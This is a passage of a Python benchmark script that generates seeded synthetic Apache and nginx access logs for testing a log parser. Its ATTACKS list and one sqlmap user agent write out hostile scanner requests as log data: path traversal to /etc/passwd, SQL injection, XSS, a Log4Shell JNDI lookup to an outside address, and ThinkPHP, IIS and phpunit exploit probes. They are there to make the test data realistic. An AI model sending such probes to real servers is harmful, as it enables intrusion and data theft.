#!/usr/bin/env python3
"""Seeded generator of Apache/nginx *combined* access logs, with an exact truth file.

    python benchmarks/gen_logs.py OUT.log --size 1GiB --seed 1 [--layout LAYOUT] [--gzip] [--zstd]

--layout nginx_custom / nginx_json writes the same record sequence with an nginx log_format (escape=default /
escape=json); the truth then also holds that log_format.

Writes OUT.log, OUT.log.truth.json and, on request, OUT.log.gz / OUT.log.zst.

Speed comes from building a few thousand varied pieces once (client+user, request, status+bytes,
referer, user agent, malformed lines) and then assembling lines in large batches by index: numpy picks
the indices, one b"".join per batch writes them. Truth is counted from the same indices, so it is exact.
The same seed gives the same lines whatever the size: a smaller file is a prefix of a larger one.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import re
import subprocess
import sys
import time

import numpy as np

GEN_VERSION = 1  # bump when the output for a given seed changes (invalidates cached data)
# Bump when the truth gains or changes a figure: a cached log keeps its bytes, its truth is recounted
# (generate(..., write=False)) without writing the log again.
TRUTH_VERSION = 2  # 2: code_path_raw (combined) and hour_class
BATCH = 1 << 17  # lines per batch; fixed so output depends only on seed (and size as a cut-off)

FIRST_CLEAN_LINES = 1000  # the head stays well formed so format sniffing sees a clean sample
INVALID_RATE = 5e-4       # well-formed lines whose status token is not a status code
UNPARSED_RATE = 1e-4      # lines that are not combined-format at all
BLANK_RATE = 1e-5         # empty lines: lines but not records
MEAN_GAP_S = 0.008        # ~125 requests/s; 1 GiB spans about half a day, crossing midnight

# Status mix: mostly 200, then the usual suspects; 298 and 432 are valid but unregistered codes.
STATUS_WEIGHTS = {
    200: 78.0, 304: 6.5, 404: 3.6, 301: 1.9, 302: 2.4, 206: 1.1, 500: 0.35, 502: 0.2, 503: 0.18,
    504: 0.09, 499: 0.3, 403: 0.75, 401: 0.55, 400: 0.4, 429: 0.25, 201: 0.6, 204: 0.7, 307: 0.15,
    308: 0.1, 405: 0.06, 408: 0.04, 410: 0.03, 413: 0.02, 101: 0.05, 298: 0.02, 432: 0.02,
}
INVALID_TOKENS = ["-", "000", "009", "1000"]
INV_VARIANTS = 4  # invalid-status pieces per token
BYTES_VARIANTS = 256  # status pieces (status + size) per code

# (text, offset seconds, weight): merged logs from servers in several zones.
ZONES = [
    ("-0700", -7 * 3600, 40), ("+0000", 0, 20), ("+0100", 3600, 10), ("-0400", -4 * 3600, 8),
    ("+0530", 5 * 3600 + 1800, 8), ("+0900", 9 * 3600, 7), ("+0545", 5 * 3600 + 2700, 3),
    ("-0930", -(9 * 3600 + 1800), 2), ("+1400", 14 * 3600, 2),
]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
TS_LEN = len("10/Oct/2000:13:55:36 -0700")

_SIZE_RE = re.compile(r"^\s*(\d+(?:\.\d+)?)\s*([kKmMgGtT]?)(i?)([bB]?)\s*$")


def parse_size(text: str) -> int:
    """'1GiB', '64MiB', '16M' (binary), '1GB' (decimal), '12345' (bytes)."""
    m = _SIZE_RE.match(str(text))
    if not m:
        raise ValueError(f"bad size: {text!r} (use e.g. 64MiB, 1GiB, 4GiB or a byte count)")
    num, unit, i, b = m.groups()
    unit = unit.upper()
    if not unit:
        return int(float(num))
    power = "KMGT".index(unit) + 1
    # A bare "M"/"G" and "MiB" are binary; "MB" is decimal.
    base = 1000 if (b and not i) else 1024
    return int(float(num) * base ** power)


def size_label(n: int) -> str:
    for unit, power in (("GiB", 3), ("MiB", 2), ("KiB", 1)):
        if n % (1024 ** power) == 0:
            return f"{n // 1024 ** power}{unit}"
    return f"{n}B"


# ---------------------------------------------------------------------------------------------------
# Escaping of quoted fields, as the servers do it.

def esc_apache(s: str) -> str:
    return s.replace("\\", "\\\\").replace('"', '\\"')


def esc_nginx(s: str) -> str:
    return s.replace("\\", "\\x5C").replace('"', "\\x22")


def quoted(r: random.Random, s: str) -> str:
    """Logical text -> field content, escaped in Apache or nginx style when it needs escaping."""
    if '"' in s or "\\" in s:
        return esc_apache(s) if r.random() < 0.6 else esc_nginx(s)
    return s


_FIELD_OK = re.compile(r'(?:[^"\\\n]|\\[^\n])*', re.S)  # every '\' escapes the next char; no bare '"'


def check_field(content: str) -> str:
    assert _FIELD_OK.fullmatch(content), content
    return content


# ---------------------------------------------------------------------------------------------------
# Pools of pieces. All randomness here comes from one random.Random(seed).

WORDS = ("alpha beta gamma delta cheap flights hotel paris new york weather today python tutorial "
         "how to fix error 404 best pizza near me login reset password order status shipping "
         "returns size chart blue shoes laptop review 2024 price compare").split()
UTF8_WORDS = ["Café", "Москва", "東京", "naïve", "Zürich", "日本語", "São Paulo", "Ελλάδα", "😀", "Kraków",
              "résumé", "北京", "Dvořák", "مرحبا", "ß"]
NAMES = ["frank", "alice", "bob", "admin", "deploy", "j.smith", "user@example.com", "José", "svc-backup",
         "mallory", "o.brien", "root", "test", "guest", "Ærøskøbing", "carol_w", "dave42"]
SLUGS = ["hello-world", "release-notes", "how-we-scaled", "summer-sale", "faq", "contact", "pricing",
         "getting-started", "a-very-long-article-title-about-performance-tuning-in-production"]
RESOURCES = ["users", "orders", "items", "sessions", "carts", "products", "events", "metrics", "search"]
EXTS = {"js": ["js", "js.map"], "css": ["css"], "img": ["png", "jpg", "webp", "svg", "gif"],
        "fonts": ["woff2", "ttf"]}
ATTACKS = [
    "/wp-login.php", "/wp-admin/setup-config.php", "/.env", "/.git/config", "/phpmyadmin/index.php",
    "/cgi-bin/../../../../etc/passwd", "/index.php?id=1' OR '1'='1", "/?q=<script>alert(1)</script>",
    "/${jndi:ldap://198.51.100.7:1389/a}", "/index.php?s=/Index/\\think\\app/invokefunction",
    "/scripts/..%5c..%5cwinnt/system32/cmd.exe?/c+dir", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/", "/boaform/admin/formLogin", "/actuator/health", "/solr/admin/info/system?wt=json",
]


def pct(s: str) -> str:
    return "".join(c if c.isascii() and (c.isalnum() or c in "-._~") else
                   "".join(f"%{b:02X}" for b in c.encode()) for c in s)


def make_ipv4(r: random.Random) -> str:
    first = r.choice([o for o in range(1, 224) if o not in (10, 127, 172, 192)] + [172, 192] * 3)
    return f"{first}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"


def make_ipv6(r: random.Random) -> str:
    h = lambda: f"{r.randrange(0x10000):x}"
    x = r.random()
    if x < 0.45:
        return f"2001:db8:{h()}:{h()}::{h()}"
    if x < 0.75:
        return ":".join(h() for _ in range(8))
    if x < 0.85:
        return f"2a03:2880:{h()}:{h()}:face:b00c:0:{h()}"
    if x < 0.95:
        return f"::ffff:{make_ipv4(r)}"
    return r.choice(["::1", "fe80::1", "2001:db8::", "::"])


def make_head(r: random.Random) -> str:
    x = r.random()
    if x < 0.80:
        host = make_ipv4(r)
    elif x < 0.97:
        host = make_ipv6(r)
    else:
        a, b, c, d = make_ipv4(r).split(".")
        host = r.choice([f"crawl-{a}-{b}-{c}-{d}.googlebot.com", f"msnbot-{a}-{b}-{c}-{d}.search.msn.com",
                         f"host-{a}-{b}.dsl.example.net"])
    user = "-" if r.random() < 0.93 else r.choice(NAMES)
    return f"{host} - {user} ["


def words(r: random.Random, lo: int = 1, hi: int = 4) -> list[str]:
    return [r.choice(WORDS) for _ in range(r.randint(lo, hi))]


def make_target(r: random.Random) -> str:
    x = r.random()
    if x < 0.30:
        kind = r.choice(list(EXTS))
        name = r.choice(["app", "vendor", "main", "runtime", "logo", "hero", "icons", "inter", "styles"])
        return f"/static/{kind}/{name}.{r.getrandbits(32):08x}.{r.choice(EXTS[kind])}"
    if x < 0.36:
        return r.choice(["/favicon.ico", "/robots.txt", "/sitemap.xml", "/apple-touch-icon.png", "/ads.txt"])
    if x < 0.54:
        y = r.random()
        if y < 0.2:
            return r.choice(["/", "/index.html", "/about/", "/contact", "/login", "/logout"])
        if y < 0.5:
            return f"/blog/{r.randint(2015, 2024)}/{r.randint(1, 12):02d}/{r.choice(SLUGS)}/"
        if y < 0.8:
            return f"/products/{r.randrange(1, 10**6)}"
        return f"/category/{r.choice(SLUGS)}?page={r.randint(1, 40)}&sort={r.choice(['price', '-date', 'popular'])}"
    if x < 0.74:
        base = f"/api/v{r.randint(1, 3)}/{r.choice(RESOURCES)}"
        if r.random() < 0.6:
            base += f"/{r.randrange(1, 10**7)}"
        if r.random() < 0.5:
            q = [f"limit={r.choice([10, 20, 50, 100])}", f"offset={r.randrange(0, 5000)}",
                 "fields=id,name,created_at", f"sort=-{r.choice(['created_at', 'id'])}",
                 f"ids={','.join(str(r.randrange(1000)) for _ in range(r.randint(2, 6)))}",
                 f"token={r.getrandbits(128):032x}"]
            base += "?" + "&".join(r.sample(q, r.randint(1, 4)))
        return base
    if x < 0.84:
        w = words(r)
        sep = r.choice(["+", "%20"])
        q = sep.join(w)
        if r.random() < 0.3:
            q += sep + pct(r.choice(UTF8_WORDS))
        extra = r.choice(["", f"&page={r.randint(2, 9)}", "&utm_source=newsletter&utm_medium=email",
                          "&lang=en-US", "&x=%2Fetc%2Fpasswd", "&bad=%zz%"])
        return f"/search?q={q}{extra}"
    if x < 0.87:  # raw UTF-8
        return r.choice([f"/wiki/{r.choice(UTF8_WORDS)}", f"/search?q={r.choice(UTF8_WORDS)}",
                         f"/files/{r.choice(UTF8_WORDS)}.pdf"])
    if x < 0.895:  # spaces inside the URI
        return r.choice(["/a b.html", "/files/Annual Report 2023.pdf", f"/search?q={' '.join(words(r, 2, 3))}",
                         "/path/with  two spaces/", "/x y?z=1 2", f"/{r.choice(SLUGS)} (copy).html"])
    if x < 0.92:  # double quotes inside the URI (escaped when written)
        return r.choice(['/search?q="hello world"', '/api/v1/items?filter={"a":1,"b":"x"}',
                         '/x?name=O"Brien', f'/search?q="{r.choice(WORDS)}"&exact=1', '/""'])
    if x < 0.925:  # backslashes, including a trailing one
        return r.choice(["/c:\\windows\\win.ini", "/scripts/..\\..\\winnt/system32/cmd.exe", "/dir\\",
                         "/a\\\"b"])
    if x < 0.975:
        return r.choice(ATTACKS)
    if x < 0.99:  # long tracking payloads
        payload = base64.urlsafe_b64encode(r.randbytes(r.randint(300, 3000))).decode()
        return f"/collect?v=2&tid=G-{r.getrandbits(24):06X}&d={payload}"
    return r.choice(["http://example.com/", "http://www.example.org:8080/proxy?x=1", "*"])


METHODS = [("GET", 85.0), ("POST", 8.0), ("HEAD", 3.0), ("PUT", 1.5), ("DELETE", 1.0), ("OPTIONS", 1.5)]
PROTOS = [("HTTP/1.1", 72.0), ("HTTP/2.0", 22.0), ("HTTP/1.0", 5.5), ("", 0.5)]


def wchoice(r: random.Random, pairs):
    return r.choices([p[0] for p in pairs], weights=[p[1] for p in pairs])[0]


def make_request(r: random.Random) -> str:
    """The request field, as written between its quotes."""
    x = r.random()
    if x < 0.004:
        return "-"  # nothing received (408 / 400)
    if x < 0.005:
        return ""   # nginx logs an empty request as ""
    if x < 0.008:   # TLS handshake sent to a plain-HTTP port, as nginx escapes it
        return "".join(f"\\x{b:02X}" for b in b"\x16\x03\x01" + r.randbytes(r.randint(8, 40)))
    method = wchoice(r, METHODS)
    proto = wchoice(r, PROTOS)
    line = f"{method} {make_target(r)}" + (f" {proto}" if proto else "")
    return quoted(r, line)


def make_referer(r: random.Random) -> str:
    x = r.random()
    if x < 0.45:
        return "-"
    if x < 0.60:
        return r.choice(["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
                         "android-app://com.google.android.gm/", "https://t.co/" + f"{r.getrandbits(40):x}"])
    if x < 0.68:
        return f"https://www.google.com/search?q={'+'.join(words(r))}&client=firefox-b-d"
    if x < 0.93:
        return quoted(r, f"https://www.example.com{make_target(r)}".replace(" ", "%20"))
    if x < 0.95:
        return f"https://www.example.com/wiki/{r.choice(UTF8_WORDS)}"
    if x < 0.97:
        return quoted(r, f'https://www.example.com/search?q="{r.choice(WORDS)} {r.choice(WORDS)}"')
    if x < 0.99:
        utm = "&".join(f"utm_{k}={r.choice(WORDS)}" for k in ("source", "medium", "campaign", "term", "content"))
        return f"https://shop.example.com/landing?{utm}&gclid={base64.urlsafe_b64encode(r.randbytes(60)).decode()}"
    return ""


def make_ua(r: random.Random) -> str:
    x = r.random()
    chrome = f"{r.randint(100, 124)}.0.{r.randint(4000, 6400)}.{r.randint(0, 200)}"
    if x < 0.30:
        plat = r.choice(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
                         f"Linux; Android {r.randint(9, 14)}; SM-G{r.randint(900, 999)}B"])
        mobile = " Mobile" if "Android" in plat else ""
        ua = f"Mozilla/5.0 ({plat}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}{mobile} Safari/537.36"
        if r.random() < 0.2:
            ua += f" Edg/{chrome}"
        return ua
    if x < 0.45:
        v = r.randint(100, 125)
        plat = r.choice(["Windows NT 10.0; Win64; x64", "X11; Ubuntu; Linux x86_64", "Macintosh; Intel Mac OS X 14.1"])
        return f"Mozilla/5.0 ({plat}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
    if x < 0.60:
        ios = f"{r.randint(15, 17)}_{r.randint(0, 6)}"
        return (f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 "
                f"(KHTML, like Gecko) Version/{ios.split('_')[0]}.0 Mobile/15E148 Safari/604.1")
    if x < 0.72:
        return r.choice([
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Twitterbot/1.0",
        ])
    if x < 0.86:
        return r.choice([f"curl/7.{r.randint(29, 88)}.{r.randint(0, 2)}", f"curl/8.{r.randint(0, 8)}.{r.randint(0, 1)}",
                         f"Wget/1.21.{r.randint(1, 4)}", f"python-requests/2.{r.randint(20, 32)}.{r.randint(0, 3)}",
                         "Go-http-client/1.1", "Go-http-client/2.0", f"okhttp/4.{r.randint(8, 12)}.0",
                         "Apache-HttpClient/4.5.13 (Java/17.0.2)", f"PostmanRuntime/7.{r.randint(26, 37)}.0",
                         "kube-probe/1.28", "ELB-HealthChecker/2.0", "Prometheus/2.45.0"])
    if x < 0.90:
        return r.choice(["-", ""])
    if x < 0.94:  # quotes inside the agent, some of them mimicking the following fields
        return quoted(r, r.choice([
            'Mozilla/5.0 (compatible; "MyBot"/1.0; +https://bot.example.com)',
            'foo" 200 123 "bar', '" 404 0 "-" "', 'Mozilla/5.0 "quoted" "twice"', '"',
            'sqlmap/1.7 (https://sqlmap.org) " OR 1=1 --',
        ]))
    if x < 0.95:  # backslashes, including one right before the closing quote
        return quoted(r, r.choice(["Mozilla\\5.0", "agent\\", "C:\\Program Files\\App\\app.exe", "\\\\"]))
    if x < 0.97:
        return f"MyApp/{r.randint(1, 9)}.{r.randint(0, 20)} ({r.choice(UTF8_WORDS)}; {r.choice(UTF8_WORDS)})"
    # long agents: toolbars, embedded browsers, junk
    parts = [f"Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}"]
    parts += [f"{r.choice(WORDS).capitalize()}/{r.randint(1, 99)}.{r.randint(0, 9)}" for _ in range(r.randint(10, 80))]
    return " ".join(parts)


def make_bytes(r: random.Random, code: int) -> str:
    if code in (304, 204, 101) or r.random() < 0.03:
        return r.choice(["-", "0"])
    if code in (200, 206):
        return str(int(r.lognormvariate(8.5, 1.8)) + 1)
    return str(r.randint(0, 1200))


def make_malformed(r: random.Random, pools_text: dict) -> bytes:
    x = r.random()
    if x < 0.35:
        return r.choice([b"GARBAGE", b"GARBAGE GARBAGE GARBAGE", b"garbage line " + str(r.randrange(10**6)).encode(),
                         b"-", b"--- log rotated ---", b"]", b"0 0 0 0", b"\tGARBAGE\t"])
    if x < 0.75:  # a combined line cut somewhere before its status
        ts = f"{r.randint(1, 28):02d}/{r.choice(MONTHS)}/2024:{r.randint(0, 23):02d}:{r.randint(0, 59):02d}:00 -0700"
        prefix = (r.choice(pools_text["heads"]) + ts + '] "' + r.choice(pools_text["requests"]) + '" ').encode()
        return prefix[:r.randint(1, len(prefix))]
    # binary junk: no '\n', '\r' or '"', and not all white space
    junk = bytes(b for b in r.randbytes(r.randint(8, 200)) if b not in b'\n\r"')
    return junk + b"\xff"


class Pools:
    """The pieces lines are assembled from, as numpy object arrays with lengths and cumulative weights."""

    def __init__(self, seed: int):
        r = random.Random(seed)
        heads = [make_head(r) for _ in range(4000)]
        requests = [check_field(make_request(r)) for _ in range(6000)]
        referers = [check_field(make_referer(r)) for _ in range(3000)]
        uas = [check_field(make_ua(r)) for _ in range(2500)]
        # Kept as written (combined escaping) for the nginx layouts, which re-render them.
        self.texts = {"heads": heads, "requests": requests, "referers": referers, "uas": uas}

        self.heads, self.heads_len = self._arr(heads)
        self.req, self.req_len = self._arr(['] "' + q + '" ' for q in requests])
        self.ref, self.ref_len = self._arr(['"' + f + '" ' for f in referers])
        self.ua, self.ua_len = self._arr(['"' + a + '"\n' for a in uas])
        # Skewed popularity: a few clients and pages dominate, as in real traffic.
        self.heads_cdf = self._zipf_cdf(len(heads), 1.0)
        self.req_cdf = self._zipf_cdf(len(requests), 0.7)
        self.ref_cdf = self._zipf_cdf(len(referers), 0.3)
        self.ua_cdf = self._zipf_cdf(len(uas), 0.8)

        self.codes = np.array(list(STATUS_WEIGHTS), dtype=np.int64)
        w = np.array(list(STATUS_WEIGHTS.values()), dtype=np.float64)
        self.code_cdf = np.cumsum(w / w.sum())
        self.code_cdf[-1] = 1.0
        st = [f"{c} {make_bytes(r, int(c))} " for c in self.codes for _ in range(BYTES_VARIANTS)]
        self.st, self.st_len = self._arr(st)
        inv = [f"{t} {make_bytes(r, 200)} " for t in INVALID_TOKENS for _ in range(INV_VARIANTS)]
        self.inv, self.inv_len = self._arr(inv)
        self.texts.update(st=st, inv=inv)

        mal = [make_malformed(r, {"heads": heads, "requests": requests}) + b"\n" for _ in range(256)]
        self.mal = np.empty(len(mal), dtype=object)
        self.mal[:] = mal
        self.mal_len = np.array([len(m) for m in mal], dtype=np.int64)

        zw = np.array([z[2] for z in ZONES], dtype=np.float64)
        self.zone_cdf = np.cumsum(zw / zw.sum())
        self.zone_cdf[-1] = 1.0
        # Start somewhere in 2023-2024 at a random time of day.
        self.t0 = 1672531200 + r.randrange(0, 700) * 86400 + r.randrange(0, 86400)
        self._check()

    @staticmethod
    def _arr(texts):
        b = [t.encode("utf-8") for t in texts]
        a = np.empty(len(b), dtype=object)
        a[:] = b
        return a, np.array([len(x) for x in b], dtype=np.int64)

    @staticmethod
    def _zipf_cdf(n: int, s: float):
        w = 1.0 / np.arange(1, n + 1, dtype=np.float64) ** s
        c = np.cumsum(w / w.sum())
        c[-1] = 1.0
        return c

    def _check(self):
        for arr in (self.heads, self.req, self.st, self.inv, self.ref):
            assert not any(b"\n" in x for x in arr)
        assert all(x.endswith(b"\n") and x.count(b"\n") == 1 for x in self.ua)
        for m in self.mal:
            assert m.endswith(b"\n") and m.count(b"\n") == 1 and m.strip()
            assert b"\r" not in m


def pick(cdf: np.ndarray, u: np.ndarray) -> np.ndarray:
    # Inverse-CDF sampling from uniforms only: stable across numpy versions, unlike Generator.choice.
    return np.minimum(np.searchsorted(cdf, u, side="right"), len(cdf) - 1)


def clf_stamp(sec: int, zone: int) -> bytes:
    name, off, _ = ZONES[zone]
    tm = time.gmtime(sec + off)
    return (f"{tm.tm_mday:02d}/{MONTHS[tm.tm_mon - 1]}/{tm.tm_year}:"
            f"{tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d} {name}").encode()


class Clock:
    """Advancing request times, formatted per (second, zone) with a small cache."""

    def __init__(self, t0: float, stamp=clf_stamp):
        self.t = float(t0)
        self.stamp = stamp
        self.cache: dict[int, bytes] = {}
        self.seconds = np.zeros(0, dtype=np.int64)  # the last batch's UTC seconds, for the truth

    def stamps(self, u_gap: np.ndarray, zone: np.ndarray) -> np.ndarray:
        t = self.t + np.cumsum(-np.log1p(-u_gap) * MEAN_GAP_S)
        self.t = float(t[-1])
        self.seconds = np.floor(t).astype(np.int64)
        keys = self.seconds * len(ZONES) + zone
        uniq, inv = np.unique(keys, return_inverse=True)
        if len(self.cache) > 200_000:
            self.cache.clear()
        out = np.empty(len(uniq), dtype=object)
        for i, k in enumerate(uniq.tolist()):
            s = self.cache.get(k)
            if s is None:
                s = self.stamp(*divmod(k, len(ZONES)))
                self.cache[k] = s
            out[i] = s
        return out[inv.reshape(-1)]


# ---------------------------------------------------------------------------------------------------
# Layouts: the same records (same indices, same truth) rendered as different log formats.

LAYOUTS = ("combined", "nginx_custom", "nginx_json", "w3c")
# The exact log_format texts the harness hands to logcodes.formats.nginx().
NGINX_CUSTOM_FORMAT = ("'$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent "
                       "\"$http_referer\" \"$http_user_agent\" rt=$request_time uct=\"$upstream_connect_time\" "
                       "us=\"$upstream_status\" ua=\"$upstream_addr\"'")
NGINX_JSON_FORMAT = ("log_format j escape=json '{\"time\":\"$time_iso8601\",\"remote_addr\":\"$remote_addr\","
                     "\"request\":\"$request\",\"status\":$status,\"body_bytes_sent\":$body_bytes_sent,"
                     "\"request_time\":$request_time,\"upstream_status\":\"$upstream_status\","
                     "\"http_user_agent\":\"$http_user_agent\",\"host\":\"$host\"}';")
LOG_FORMATS = {"nginx_custom": NGINX_CUSTOM_FORMAT, "nginx_json": NGINX_JSON_FORMAT}
TAIL_VARIANTS = 512  # upstream/timing tails per status code
# nginx prints $status as a number, never "-"; status 0 comes out as 000.
NGINX_TOKEN = {"-": "000"}
# Tokens that are not JSON numbers (leading zero): such a line is invalid JSON, exactly as nginx writes it.
NOT_JSON_NUMBER = re.compile(r"0\d+")

_UNESC = re.compile(rb"\\(x[0-9A-Fa-f]{2}|[\s\S])")


def unescape(text: str) -> bytes:
    """A combined-log field (Apache \\" \\\\ or nginx \\xHH escaping) -> the raw bytes the server saw."""
    return _UNESC.sub(lambda m: bytes([int(m.group(1)[1:], 16)]) if len(m.group(1)) == 3 else m.group(1),
                      text.encode("utf-8"))


# nginx escape=default: '"', '\\', bytes < 0x20 and >= 0x7f as \xHH (upper-case hex).
_NESC = [bytes([b]) if 0x20 <= b < 0x7F and b not in (0x22, 0x5C) else b"\\x%02X" % b for b in range(256)]
# nginx escape=json (ngx_escape_json): '"' and '\\' backslashed, five short control escapes, other bytes
# < 0x20 as \u00xx; everything else, including bytes >= 0x80 that are not UTF-8, written raw.
_JESC = [bytes([b]) for b in range(256)]
_JESC[0x22], _JESC[0x5C] = b'\\"', b"\\\\"
for _b in range(0x20):
    _JESC[_b] = {0x0A: b"\\n", 0x0D: b"\\r", 0x09: b"\\t", 0x08: b"\\b", 0x0C: b"\\f"}.get(_b, b"\\u00%02x" % _b)


def esc_nginx_default(raw: bytes) -> bytes:
    return b"".join(_NESC[b] for b in raw)


def esc_nginx_json(raw: bytes) -> bytes:
    return b"".join(_JESC[b] for b in raw)


_NAMED_HOST = re.compile(r"^(?:crawl|msnbot)-(\d+)-(\d+)-(\d+)-(\d+)\.|^host-(\d+)-(\d+)\.")


def host_ip(r: random.Random, host: str) -> str:
    """$remote_addr is always an address: reverse-DNS names from the combined pool back to IPs."""
    m = _NAMED_HOST.match(host)
    if not m:
        return host
    if m.group(1):
        return ".".join(m.group(i) for i in range(1, 5))
    return f"{m.group(5)}.{m.group(6)}.{r.randrange(256)}.{r.randrange(1, 255)}"


# Share of each code nginx answers itself (static files, redirects, limits): no upstream involved.
LOCAL_SHARE = {304: 0.7, 301: 0.8, 302: 0.3, 206: 0.5, 200: 0.3, 404: 0.3, 403: 0.4, 400: 0.6, 408: 1.0,
               413: 1.0, 405: 0.5, 410: 0.3, 429: 0.6, 101: 0.0}


def make_upstream(r: random.Random, code: int | None):
    """(request_time, upstream_connect_time, upstream_status, upstream_addr) as nginx logs them; None = unset.
    A list of attempts ends with the attempt whose answer became $status; ' : ' separates internal redirects."""
    addr = lambda: "unix:/run/php/php-fpm.sock" if r.random() < 0.03 else f"10.0.0.{r.randint(1, 12)}:8080"
    ct = lambda: r.choice(["0.000", "0.000", "0.001", "0.001", "0.002", "0.004", "0.012"])
    rt = lambda mu, sigma: f"{min(r.lognormvariate(mu, sigma), 30.0):.3f}"
    if code is None:  # invalid status: nothing (or nothing usable) came back from an upstream
        if r.random() < 0.5:
            return rt(-4, 1.5), None, None, None
        return rt(0, 1.5), ct(), "-", addr()
    if r.random() < LOCAL_SHARE.get(code, 0.1):
        t = f"{r.uniform(5, 30):.3f}" if code == 408 else rt(-6, 1.2)
        return t, None, None, None
    x = r.random()
    if code == 499:  # the client gave up before the upstream answered
        if x < 0.1:
            return f"{r.uniform(1, 30):.3f}", f"{ct()}, {ct()}", "502, -", f"{addr()}, {addr()}"
        return f"{r.uniform(0.2, 30):.3f}", ct(), "-", addr()
    if (code == 200 and x < 0.03) or (code in (500, 502, 503, 504) and x < 0.3):
        n = r.choice([2, 2, 2, 3])
        if code == 200:
            before = [r.choice(["502", "504", "503"]) for _ in range(n - 1)]
        else:
            before = [str(code)] * (n - 1)
        us = ", ".join(before + [str(code)])
        slow = code == 504 or "504" in before
        t = f"{min(10.0 * us.count('504') + r.uniform(0, 0.5), 30.0):.3f}" if slow else rt(-2, 1.2)
        return t, ", ".join(ct() for _ in range(n)), us, ", ".join(addr() for _ in range(n))
    if code == 200 and x < 0.035:  # error_page / X-Accel-Redirect: an internal redirect to a second upstream
        return rt(-3, 1.0), f"{ct()} : {ct()}", "404 : 200", f"{addr()} : {addr()}"
    if code == 504:
        return f"{min(r.choice([10.0, 30.0]) + r.uniform(0, 0.05), 30.0):.3f}", ct(), "504", addr()
    if code == 101:  # websockets stay open
        return f"{r.uniform(1, 30):.3f}", ct(), "101", addr()
    return rt(-3.5, 1.3), ct(), str(code), addr()


def _objs(items: list[bytes]):
    a = np.empty(len(items), dtype=object)
    a[:] = items
    return a, np.array([len(x) for x in items], dtype=np.int64)


class CombinedLayout:
    """The original combined log: six pieces per line."""
    name = "combined"
    n_parts = 6
    stamp = staticmethod(clf_stamp)

    def __init__(self, pools: "Pools", seed: int):
        self.p = pools
        self.mal, self.mal_len = pools.mal, pools.mal_len

    def render(self, ix):
        p = self.p
        parts = [p.heads[ix.hi], ix.ts, p.req[ix.ri], p.st[ix.si], p.ref[ix.fi], p.ua[ix.ai]]
        length = p.heads_len[ix.hi] + TS_LEN + p.req_len[ix.ri] + p.st_len[ix.si] + p.ref_len[ix.fi] + p.ua_len[ix.ai]
        return parts, length

    def set_invalid(self, parts, length, m, ix):
        ii = ix.ii[m]
        parts[3][m] = self.p.inv[ii]
        length[m] += self.p.inv_len[ii] - self.p.st_len[ix.si[m]]


class NginxLayout:
    """nginx_custom (escape=default) or nginx_json (escape=json), rendered from the combined pools' raw values,
    plus upstream/timing tails (custom) or host (JSON) drawn from a second stream so the records stay the same."""

    def __init__(self, pools: "Pools", seed: int, name: str):
        self.name, self.p, self.json = name, pools, name == "nginx_json"
        r = random.Random(seed * 7919 + (2 if self.json else 1))
        t = pools.texts
        esc = esc_nginx_json if self.json else esc_nginx_default
        ips, users = [], []
        for h in t["heads"]:
            host, _, user, _ = h.split(" ", 3)
            ips.append(host_ip(r, host))
            users.append(user)
        requests = [unescape(q) for q in t["requests"]]
        uas = [unescape(a) for a in t["uas"]]
        # escape=json logs an unset variable as "" where escape=default writes "-".
        unset = (lambda v: b"" if v == b"-" else v) if self.json else (lambda v: v)
        st = [x.split(" ")[:2] for x in t["st"]]
        inv = [x.split(" ")[:2] for x in t["inv"]]
        self.inv_token = [NGINX_TOKEN.get(tok, tok) for tok, _ in inv]
        inv = [(tok, b) for tok, (_, b) in zip(self.inv_token, inv)]
        num = lambda b: "0" if b == "-" else b  # $body_bytes_sent is always a number
        codes = [int(c) for c in pools.codes]
        tails = [make_upstream(r, c) for c in codes for _ in range(TAIL_VARIANTS)]
        inv_tails = [make_upstream(r, None) for _ in range(TAIL_VARIANTS)]
        if self.json:
            self.n_parts = 7
            self.stamp = iso_stamp
            self.ts_len = len(iso_stamp(0, 0))
            self.heads, self.heads_len = _objs([f'","remote_addr":"{ip}","request":"'.encode() for ip in ips])
            reqs = [esc(unset(q)) for q in requests]
            self.req, self.req_len = _objs([q + b'","status":' for q in reqs])
            # Raw bytes >= 0x80 that are not UTF-8 (TLS junk) pass escape=json unchanged.
            self.req_bad = np.array([not _utf8(q) for q in reqs])
            stf = lambda c, b: f'{c},"body_bytes_sent":{num(b)},"request_time":'.encode()
            self.st, self.st_len = _objs([stf(c, b) for c, b in st])
            self.inv, self.inv_len = _objs([stf(c, b) for c, b in inv])
            tf = lambda x: f'{x[0]},"upstream_status":"{x[2] or ""}","http_user_agent":"'.encode()
            self.tail, self.tail_len = _objs([tf(x) for x in tails])
            self.inv_tail, self.inv_tail_len = _objs([tf(x) for x in inv_tails])
            self.ua, self.ua_len = _objs([esc(unset(a)) + b'","host":"' for a in uas])
            hosts = ["www.example.com"] * 60 + ["shop.example.com"] * 15 + ["api.example.com"] * 15 + \
                ["static.example.com"] * 6 + ["example.com", "203.0.113.10", "localhost", "www.example.com:8443"]
            self.host, self.host_len = _objs([f'{h}"}}\n'.encode() for h in hosts])
        else:
            self.n_parts = 7
            self.stamp = clf_stamp
            self.ts_len = TS_LEN
